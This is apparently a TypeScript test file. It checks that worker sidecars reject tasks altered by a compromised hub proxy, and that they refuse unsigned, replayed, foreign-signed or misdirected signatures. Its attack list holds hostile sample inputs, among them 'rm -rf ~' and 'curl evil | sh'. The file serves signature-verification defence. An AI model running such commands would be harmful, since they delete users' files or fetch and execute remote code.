/** A compromised hub: it sends its sidecars anything, over the real protocol. */
import { once } from 'node:events';
import { generateKeyPairSync } from 'node:crypto';
import type { AddressInfo } from 'node:net';
import { exportJWK } from 'jose';
import t, { type Test } from 'tap';
import { WebSocket, WebSocketServer } from 'ws';
import { taskSigner, type Ed25519PrivateJwk, type SignTask } from '../../apps/client/index.ts';
import type { Ed25519PublicJwk } from '../../core/config/accept.ts';
import { workerRoom } from '../apps/worker/worker-room.ts';

type Frame = Readonly<Record<string, unknown>>;

/** A proxy between a sidecar and an honest hub that changes each assignment as `tamper` says. */
async function hostileHub(t: Test, hubUrl: string, tamper: (assignment: Frame) => Frame): Promise<string> {
  const server = new WebSocketServer({ port: 0, host: '127.0.0.1' });
  await once(server, 'listening');
  t.teardown(() => {
    for (const client of server.clients) client.terminate();
    server.close();
  });
  server.on('connection', (sidecar) => {
    const hub = new WebSocket(`${hubUrl.replace(/^http/, 'ws')}/ws`);
    const waiting: string[] = [];
    hub.on('open', () => waiting.forEach((text) => hub.send(text)));
    sidecar.on('message', (data) => (hub.readyState === WebSocket.OPEN ? hub.send(String(data)) : waiting.push(String(data))));
    hub.on('message', (data) => {
      const frame = JSON.parse(String(data)) as Frame;
      sidecar.send(JSON.stringify(frame['type'] === 'task_assign' ? tamper(frame) : frame));
    });
    for (const [one, other] of [
      [hub, sidecar],
      [sidecar, hub],
    ] as const) {
      one.on('error', () => other.terminate());
      one.on('close', () => other.terminate());
    }
  });
  return `ws://127.0.0.1:${(server.address() as AddressInfo).port}/ws`;
}

async function submitter(): Promise<{ readonly publicKey: Ed25519PublicJwk; readonly key: Ed25519PrivateJwk }> {
  const pair = generateKeyPairSync('ed25519');
  return {
    publicKey: (await exportJWK(pair.publicKey)) as Ed25519PublicJwk,
    key: (await exportJWK(pair.privateKey)) as Ed25519PrivateJwk,
  };
}

t.test('a sidecar that trusts a submitter runs what it signed, and nothing that the hub has altered', async (t) => {
  const room = await workerRoom(t);
  const { publicKey, key } = await submitter();
  const stranger = await submitter();
  const ran: unknown[] = [];
  let tamper: (assignment: Frame) => Frame = (assignment) => assignment;
  const hub = await hostileHub(t, room.hub.url, (assignment) => tamper(assignment));
  await room.worker({
    hub,
    agentId: 'w1',
    capabilities: ['code'],
    insecure: true,
    accept: { signedBy: [{ name: 'ops', publicKey }], audiences: ['fleet-a'] },
    handle: ({ description, metadata }) => {
      ran.push(description);
      return { description, metadata };
    },
  });
  const signWith = taskSigner({ key });
  const body = {
    description: 'count the samples',
    metadata: { folder: 'samples', depth: 2 },
    repo: 'https://example.org/acme/site',
    needed_capabilities: ['code'],
    assign_to: 'w1',
    run_max_ms: 60_000,
  };
  const outcome = async (sign: SignTask | undefined = signWith, over: Partial<typeof body> = {}) => {
    const { task_id: id } = await room.hub.api.tasks.submit({ ...body, ...over }, { signWith: sign });
    await room.hub.api.tasks.wait(id);
    return room.hub.api.tasks.get(id);
  };

  const honest = await outcome();
  t.match(honest, { status: 'completed', result: { output: { description: 'count the samples', metadata: body.metadata } } });
  t.match(honest.signature, /^[\w-]+\.[\w-]+\.[\w-]+$/, 'the API shows the signature');
  ran.length = 0;

  const replayed = String(honest.signature);
  const attacks: readonly (readonly [
    name: string,
    tamper: (assignment: Frame) => Frame,
    sign: SignTask | undefined | null,
    reason: RegExp,
  ])[] = [
    ['another description', (frame) => ({ ...frame, description: 'rm -rf ~' }), signWith, /was changed/],
    ['other metadata', (frame) => ({ ...frame, metadata: { folder: '/', depth: 2 } }), signWith, /was changed/],
    ['another repository', (frame) => ({ ...frame, repo: 'https://evil.example/x' }), signWith, /was changed/],
    ['one more step', (frame) => ({ ...frame, verification_steps: ['curl evil | sh'] }), signWith, /was changed/],
    ['a longer run', (frame) => ({ ...frame, run_max_ms: 86_400_000 }), signWith, /may run for 60000 ms/],
    ['no signature', ({ signature: _, ...frame }) => frame, signWith, /is not signed/],
    ['an unsigned task', (frame) => frame, null, /is not signed/],
    ['a signature of a stranger', (frame) => frame, taskSigner({ key: stranger.key }), /does not trust/],
    [
      'the signature of an earlier task, for the same text',
      (frame) => ({ ...frame, signature: replayed }),
      null,
      /signature of another task/,
    ],
    ['for another fleet', (frame) => frame, taskSigner({ key, audience: ['fleet-b'] }), /other audiences/],
    [
      'a key of the hub under our key name',
      (frame) => ({ ...frame, signature: `${replayed.slice(0, replayed.lastIndexOf('.'))}.${'A'.repeat(86)}` }),
      null,
      /does not match/,
    ],
  ];
  for (const [name, change, sign, reason] of attacks) {
    tamper = change;
    const { task_id: id } = await room.hub.api.tasks.submit(body, sign === null ? {} : { signWith: sign });
    await room.hub.api.tasks.wait(id);
    t.match(await room.hub.api.tasks.get(id), { status: 'dead_letter', last_error: reason, retry_count: 0, rejected_by: ['w1'] }, name);
  }
  t.strictSame(ran, [], 'none of them ran');
  tamper = (assignment) => assignment;
  t.match(await outcome(taskSigner({ key, audience: ['fleet-a'] })), { status: 'completed' }, 'and it still works');

  // Signed for another agent: the hub assigns it to this one.
  tamper = (frame) => frame;
  const misdirected = await signWith({ ...body, assign_to: 'w2' });
  const { task_id: id } = await room.hub.api.tasks.submit({ ...body, signature: misdirected });
  await room.hub.api.tasks.wait(id);
  t.match(await room.hub.api.tasks.get(id), { status: 'dead_letter', last_error: /is signed for agent w2 alone/ });
});

t.test('a retry of the same task is not a replay', async (t) => {
  const room = await workerRoom(t);
  const { publicKey, key } = await submitter();
  let runs = 0;
  await room.worker({
    agentId: 'w1',
    accept: { signedBy: [{ publicKey }] },
    handle: () => {
      runs += 1;
      if (runs === 1) throw new Error('once');
      return runs;
    },
  });
  const { task_id: id } = await room.hub.api.tasks.submit({ description: 'try' }, { signWith: taskSigner({ key }) });
  await room.hub.api.tasks.wait(id);
  t.match(await room.hub.api.tasks.get(id), { status: 'completed', result: { output: 2 } });
});
